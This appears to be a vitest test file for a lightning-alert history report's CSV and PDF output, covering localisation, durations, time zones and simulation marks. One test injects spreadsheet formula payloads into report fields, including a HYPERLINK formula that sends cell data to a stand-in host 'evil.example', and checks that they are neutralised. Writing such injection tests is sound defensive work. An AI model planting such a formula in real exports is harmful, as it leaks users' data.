import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { printable } from '#server/useCases/history/pdfPage.ts';
import type { ReportData } from '#server/useCases/history/reportData.ts';
import { reportSheet } from '#server/useCases/history/reportEntries.ts';
import { durationText, momentText } from '#server/useCases/history/reportTimes.ts';
import { writeReport } from '#server/useCases/history/writeReport.ts';
import { pdfText } from './pdfText.ts';
import { REPORT_MS, reportData } from './reportFixture.ts';

const FRENCH = { order: { ...reportData().order, language: 'fr-CA' } } as const;

async function rowsOf(data: ReportData) {
  const { csv } = await writeReport(data);
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(csv);
  expect(text.startsWith('\uFEFF')).toBe(true);
  return Papa.parse<Record<string, string>>(text.slice(1), { header: true, skipEmptyLines: true }).data.map(
    (row) =>
      Object.fromEntries(Object.entries(row).map(([name, cell]) => [name, cell.replaceAll('\u00A0', ' ')])),
  );
}

const pagesOf = async (data: ReportData) => pdfText((await writeReport(data)).pdf);

describe('the table of a report', () => {
  test('has one row for each alert, closing, override, notice, dark screen, and a total for each facility [HIST-12]', async () => {
    const rows = await rowsOf(reportData());
    expect(rows.map(({ Entry, 'Facility ID': id }) => [Entry, id])).toEqual([
      ['Alert', 'NORTHGATE_YARD'],
      ['Alert', 'NORTHGATE_YARD'],
      ['Closing', 'NORTHGATE_YARD'],
      ['Closing', 'NORTHGATE_YARD'],
      ['Override', 'NORTHGATE_YARD'],
      ['Notification', 'NORTHGATE_YARD'],
      ['Notification', 'NORTHGATE_YARD'],
      ['Total closed', 'NORTHGATE_YARD'],
      ['Total closed', 'QUIET'],
      ['Screen without a signal', ''],
    ]);
    const total = rows.find(({ Entry }) => Entry === 'Total closed');
    expect([total?.['Duration (min)'], total?.['What']]).toEqual(['90', 'Closings: 2']);
  });

  test('tells durations in the whole minutes of its pages', async () => {
    const MINUTE_MS = 60_000;
    const closing = {
      ...reportData().alerts[0]!,
      startAtMs: REPORT_MS - 60 * MINUTE_MS,
      expiresAtMs: REPORT_MS - 57.25 * MINUTE_MS,
    };
    const data = reportData({ alerts: [closing], silences: [] });
    const rows = (await rowsOf(data)).filter(({ Entry }) =>
      ['Alert', 'Closing', 'Total closed'].includes(Entry ?? ''),
    );
    expect(rows.map((row) => row['Duration (min)'])).toEqual(['2', '2', '2', '0']);
    expect(await pagesOf(data)).toContain('Closed: 2 min in total');
  });

  test('tells who set an override, why, at which probability, and what ended it', async () => {
    const override = (await rowsOf(reportData())).find(({ Entry }) => Entry === 'Override');
    expect(override).toMatchObject({
      What: 'OPEN - OVERRIDE',
      Details: 'Yard is Open; ended by lightning',
      Person: 'Zoé Œuvrard',
      'Strike probability': '4%',
      'Start (UTC)': '2026-07-14T12:00:00.000Z',
      'End (UTC)': '2026-07-14T13:00:00.000Z',
      Start: 'Jul 14, 2026, 8:00 AM EDT',
    });
  });

  test('tells a predefined message of an override in its language', async () => {
    const { csv } = await writeReport(reportData(FRENCH));
    expect(new TextDecoder().decode(csv)).toContain('Le site est ouvert; ');
  });

  test('tells who removed an override [S9]', async () => {
    const overrides = reportData().overrides.map((record) => ({ ...record, endedHow: 'removed' as const }));
    const rows = await rowsOf(reportData({ overrides, removers: { override: 'Jo Park' } }));
    expect(rows.find(({ Entry }) => Entry === 'Override')).toMatchObject({
      Details: 'Yard is Open; removed (Jo Park)',
      Person: 'Zoé Œuvrard',
    });
  });

  test('tells how a notice was delivered and when it was confirmed', async () => {
    const [sent, failed] = (await rowsOf(reportData())).filter(({ Entry }) => Entry === 'Notification');
    expect(sent).toMatchObject({
      What: 'Lightning Alert: started',
      Person: 'François Lefèvre',
      Channel: 'Email',
      Delivery: 'delivered',
      'Delivered (UTC)': '2026-07-14T11:00:04.000Z',
      'Confirmed (UTC)': '2026-07-14T11:01:00.000Z',
    });
    expect(failed).toMatchObject({ Person: 'Łukasz', Delivery: 'not delivered', 'Confirmed (UTC)': '' });
  });

  test('states no end for what goes on, and that a yard is still closed [S1]', async () => {
    const rows = await rowsOf(reportData());
    const [, running] = rows.filter(({ Entry }) => Entry === 'Alert');
    expect([running?.['End (UTC)'], running?.['End']]).toEqual([
      '',
      'expected until Jul 14, 2026, 12:30 PM EDT',
    ]);
    const [, closing] = rows.filter(({ Entry }) => Entry === 'Closing');
    expect(closing?.['Details']).toBe('still closed at the end of the period');
  });

  test('is in the language of the order', async () => {
    const rows = await rowsOf(reportData(FRENCH));
    expect(rows[0]).toMatchObject({ Entrée: 'Alerte', Objet: 'Alerte de foudre', Site: 'Cour d’Été' });
    expect(rows.find(({ Entrée }) => Entrée === 'Dérogation')).toMatchObject({
      Objet: 'OUVERT – DÉROGATION',
      'Probabilité d’impact': '4 %',
      Début: '14 juill. 2026, 8 h 00 HAE',
    });
  });

  test('never becomes a formula where it is opened', async () => {
    const evil = '=HYPERLINK("http://evil.example?"&A1)';
    const { overrides, notices, facilities } = reportData();
    const rows = await rowsOf(
      reportData({
        overrides: overrides.map((one) => ({ ...one, message: evil, setByName: '+1;cmd' })),
        notices: notices.map((one) => ({ ...one, to: '@SUM(A1)' })),
        facilities: facilities.map((one) => ({ ...one, name: '-2+3' })),
      }),
    );
    const cells = rows.flatMap((row) => Object.values(row));
    expect(cells).toContain(`'${evil}; ended by lightning`);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});

test('each row of the table says that the weather is not real [S14]', async () => {
  const marks = async (isSimulation: boolean) => [
    ...new Set((await rowsOf(reportData({ isSimulation }))).map(({ Weather }) => Weather)),
  ];
  expect([await marks(true), await marks(false)]).toEqual([['SIMULATION'], ['']]);
});

test.each([
  ['en-US', 'Completeness', 'NOT COMPLETE: some lists end after 20,000 entries'],
  ['fr-CA', 'Intégralité', 'INCOMPLET : certaines listes s’arrêtent après 20 000 entrées'],
] as const)(
  'each row of the table says in %s that lists are cut, also where there is nothing else [S4][HIST-12]',
  async (language, column, mark) => {
    const order = { ...reportData().order, language };
    const marks = async (changes: Partial<ReportData>) => [
      ...new Set((await rowsOf(reportData({ order, ...changes }))).map((row) => row[column])),
    ];
    expect([await marks({ isCut: true }), await marks({ isCut: false })]).toEqual([[mark], ['']]);
    expect(await marks({ isCut: true, alerts: [], overrides: [], notices: [], silences: [] })).toEqual([
      mark,
    ]);
  },
);

test('a dark screen is listed with the yards that were ordered, and no other of its own [AUTH-24]', async () => {
  const [silence] = reportData().silences;
  const silences = [{ ...silence!, facilityIds: ['ELSEWHERE', 'QUIET', 'NORTHGATE_YARD'] }];
  const [dark] = (await rowsOf(reportData({ silences }))).filter(
    ({ Entry }) => Entry === 'Screen without a signal',
  );
  expect(dark?.['Details']).toBe('QUIET NORTHGATE_YARD');
  expect(await pagesOf(reportData({ silences }))).not.toContain('ELSEWHERE');
});

describe('the pages of a report', () => {
  test('have the same facts in print, accents included [HIST-12]', async () => {
    const english = await pagesOf(reportData());
    for (const text of [
      'Alert history report',
      'Requested by Zoé Œuvrard',
      'Cour d’Été (NORTHGATE_YARD)',
      'Closed: 1 h 30 min in total, closings: 2',
      'OPEN - OVERRIDE',
      'François Lefèvre',
      'Facilities without entries: 1',
      'Gate wall',
      'Page 1 of 2',
    ])
      expect(english).toContain(text);
    const french = await pagesOf(reportData(FRENCH));
    for (const text of [
      'Rapport de l’historique des alertes',
      'Dérogations',
      'OUVERT – DÉROGATION',
      'Fermeture : 1 h 30 min',
    ])
      expect(french).toContain(text);
  });

  test('say that the weather is not real, and that lists are cut [S14]', async () => {
    const text = await pagesOf(reportData({ isSimulation: true, isCut: true }));
    expect(text).toContain('SIMULATION: the weather in this report is not real.');
    expect(text).toContain('Not complete: only the first 20,000 entries');
    expect(await pagesOf(reportData())).not.toContain('SIMULATION');
  });

  test('print letters that the fonts lack without their accents, never as another one', () => {
    expect(printable('é à ç œ ’ « 1\u202F000 »')).toBe('é à ç œ ’ « 1\u00A0000 »');
    expect(printable('Łódź 東 \u2212')).toBe('Lódz ? -');
    expect(printable('Đặng, Ħal Għaxaq, Işık')).toBe('Dang, Hal Ghaxaq, Isik');
  });
});

describe('times of a report', () => {
  test('name the zone, also where clocks go back', () => {
    const clean = (text: string) => text.replaceAll('\u00A0', ' ');
    const zone = 'America/New_York';
    expect(clean(momentText(Date.UTC(2026, 10, 1, 5, 30), zone, 'en-US'))).toBe('Nov 1, 2026, 1:30 AM EDT');
    expect(clean(momentText(Date.UTC(2026, 10, 1, 6, 30), zone, 'en-US'))).toBe('Nov 1, 2026, 1:30 AM EST');
    expect(clean(durationText(59_999))).toBe('59 s');
    expect(clean(durationText(3_600_000))).toBe('1 h 00 min');
    expect(clean(durationText(59 * 60_000))).toBe('59 min');
  });

  test('of what was closed end with the present, and begin before the period where it was closed already', () => {
    const { order, alerts } = reportData();
    const later = { ...order, fromMs: REPORT_MS - 4.5 * 3_600_000, toMs: REPORT_MS + 3_600_000 };
    const [place] = reportSheet(reportData({ order: later, alerts })).places;
    const [first, last] = place!.entries.filter(({ section }) => section === 'closing');
    expect([first?.isBefore, last?.isBefore, last?.toMs]).toEqual([true, false, REPORT_MS]);
    expect(place?.closedMs).toBe(3_600_000);
  });
});
